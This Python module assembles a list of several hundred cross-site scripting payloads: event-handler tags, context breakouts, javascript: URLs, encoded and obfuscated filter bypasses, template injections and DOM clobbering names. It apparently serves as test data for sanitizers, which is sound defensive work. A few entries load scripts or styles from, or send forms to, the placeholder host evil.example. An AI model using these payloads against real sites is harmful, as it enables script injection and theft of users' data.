"""Two hundred and more ways in which text has become a running script somewhere, put together from their parts."""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"
_ELEMENTS = ("img src=x", "svg", "body", "iframe src=x", "video src=x", "audio src=x", "details open", "input autofocus",
             "object data=x", "marquee", "select autofocus", "textarea autofocus", "math", "embed src=x", "link href=x")  # fmt: skip
_EVENTS = (
    "onerror",
    "onload",
    "ontoggle",
    "onfocus",
    "onstart",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onbeforetoggle",
)
_BREAKS = ('"', "'", '">', "'>", "</pre>", "</title>", "</td></tr></table>", "</textarea>", "--></script>", "]]>", "\n")
_ADDRESSES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
              "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "//evil.example/x.js", "&#106;avascript:alert(1)")  # fmt: skip
_WHOLE = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x",
    "<math><mi//xlink:href=javascript:alert(1)>x",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input type=submit>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{% raw %}<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x onclick=alert(1) tabindex=1 id=x autofocus onfocusin=alert(1)>#x",
    "<a href=# id=main name=__proto__ onmouseover=alert(1)>x</a>",
    "<input name=token value=x><input name=attributes>",
    "<img name=getElementById>",
    "<p data-live=1 id=main><form id=test><input name=submit>",
)

VECTORS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_WHOLE,
            *(f"<{element} {event}={_RUN}>" for element, event in product(_ELEMENTS, _EVENTS)),
            *(f"{closing}<img src=x onerror={_RUN}>" for closing in _BREAKS),
            *(f"{closing} onmouseover={_RUN} x=" for closing in _BREAKS[:4]),
            *(f"{closing} autofocus onfocus={_RUN} x=" for closing in _BREAKS[:2]),
            *(f"<a href='{address}'>x</a>" for address in _ADDRESSES),
            *_ADDRESSES,
            *(f"<img/src=`x`{separator}onerror={_RUN}>" for separator in ("/", "\t", "\n", "\x0c")),
        )
    )
)
